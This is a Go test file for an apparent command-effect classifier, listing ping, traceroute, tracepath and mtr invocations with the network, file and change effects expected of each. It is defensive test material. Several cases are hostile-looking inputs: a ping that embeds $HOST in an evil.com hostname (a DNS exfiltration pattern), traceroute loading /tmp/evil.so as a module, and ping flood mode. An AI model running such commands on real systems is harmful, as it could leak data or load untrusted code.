package programs_test

import "testing"

// TestProbes checks ping, traceroute, tracepath and mtr: a request carrying
// every word, a flood, a module, a file of host names.
func TestProbes(t *testing.T) {
	t.Parallel()
	checkEffects(t, []effectCase{
		{"ping example.com", "network example.com \"example.com\""},
		{"ping -c 3 example.com", "network example.com \"3\" \"example.com\""},
		{"ping -c 1 -W 2 8.8.8.8", "network 8.8.8.8 \"1\" \"2\" \"8.8.8.8\""},
		{"ping -p ff00 example.com", "network example.com \"ff00\" \"example.com\""},
		{"ping -f 10.0.0.1", "change (-f); network 10.0.0.1 \"10.0.0.1\""},
		{"ping -qfc 5 10.0.0.1", "change (-f); network 10.0.0.1 \"5\" \"10.0.0.1\""},
		{"ping -h 5 example.com", "network example.com \"5\" \"example.com\""},
		{"ping -b192.168.1.255", "network  \"192.168.1.255\""},
		{"ping -c 1 \"$HOST.evil.com\"", "unknown (the word $HOST.evil.com is computed at run time and may be any option); network $HOST.evil.com \"1\" \"$HOST.evil.com\""},
		{"ping -V", ""},
		{"traceroute example.com", "network example.com \"example.com\""},
		{"traceroute -n -w 2 -q 1 8.8.8.8 60", "network 8.8.8.8 \"2\" \"1\" \"8.8.8.8\" \"60\""},
		{"traceroute -I example.com", "network example.com \"example.com\""},
		{"traceroute -M icmp example.com", "network example.com \"icmp\" \"example.com\""},
		{"traceroute -M 3 example.com", "network example.com \"3\" \"example.com\""},
		{"traceroute -M /tmp/evil.so example.com", "unknown (traceroute -M /tmp/evil.so loads a module that is not built in); network example.com \"/tmp/evil.so\" \"example.com\""},
		{"traceroute --module=/tmp/evil.so example.com", "unknown (traceroute -M /tmp/evil.so loads a module that is not built in); network example.com \"/tmp/evil.so\" \"example.com\""},
		{"traceroute --mod /tmp/evil.so example.com", "unknown (traceroute -M /tmp/evil.so loads a module that is not built in); network example.com \"/tmp/evil.so\" \"example.com\""},
		{"traceroute -UL example.com", "network example.com \"example.com\""},
		{"traceroute --help", ""},
		{"tracepath example.com", "network example.com \"example.com\""},
		{"tracepath -n -m 10 example.com", "network example.com \"10\" \"example.com\""},
		{"mtr example.com", "network example.com \"example.com\""},
		{"mtr -r -c 5 example.com", "network example.com \"5\" \"example.com\""},
		{"mtr --report --json example.com", "network example.com \"example.com\""},
		{"mtr -B 255 example.com", "network example.com \"255\" \"example.com\""},
		{"mtr -F hosts.txt", "read hosts.txt; unknown (mtr -F sends the host names listed in a file); network "},
		{"mtr --file hosts.txt", "read hosts.txt; unknown (mtr -F sends the host names listed in a file); network "},
	})
}
